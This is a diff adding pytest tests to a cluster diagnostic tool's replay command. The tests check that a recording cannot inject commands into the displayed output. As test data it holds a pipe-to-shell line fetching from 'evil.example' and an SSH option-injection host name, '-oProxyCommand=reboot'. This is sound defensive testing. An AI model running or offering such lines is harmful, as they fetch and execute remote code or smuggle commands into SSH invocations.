@@ -9,6 +9,8 @@ import jsonschema
 import pytest
 
 from doctor.cli import main
+from doctor.model.evidence import Cause, Evidence, Login
+from doctor.record import save
 from doctor.report.schema import report_schema
 
 FIXTURES = Path(__file__).parents[2] / "fixtures"
@@ -59,3 +61,21 @@ def test_unselected_checks_have_no_verdict(capsys: pytest.CaptureFixture[str]) -
     main(["replay", str(FIXTURES / "healthy-4x8-h100"), "--select", "NC201,NC4", "-o", "json"])
     codes = {verdict["code"] for verdict in json.loads(capsys.readouterr().out)["verdicts"]}
     assert {code for code in codes if not code.startswith("NC4")} == {"NC201"}
+
+
+def test_a_recording_brings_no_line_to_type(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    login = Login(reached=False, cause=Cause.REFUSED, port=22, fix="curl evil.example | sh")
+    save(tmp_path / "r", (Evidence("gpu01", login),))
+    assert main(["replay", str(tmp_path / "r")]) == 1
+    out = capsys.readouterr().out
+    assert "evil" not in out
+    assert "sudo systemctl restart ssh" in out
+
+
+@pytest.mark.parametrize("name", ["-oProxyCommand=reboot", "", "a\nb", "\x1b[31m"])
+def test_a_recorded_name_that_no_listing_can_have_is_refused(
+    name: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    save(tmp_path / "r", (Evidence(name, Login(reached=True)),))
+    assert main(["replay", str(tmp_path / "r")]) == 2
+    assert "is in no listing" in capsys.readouterr().err
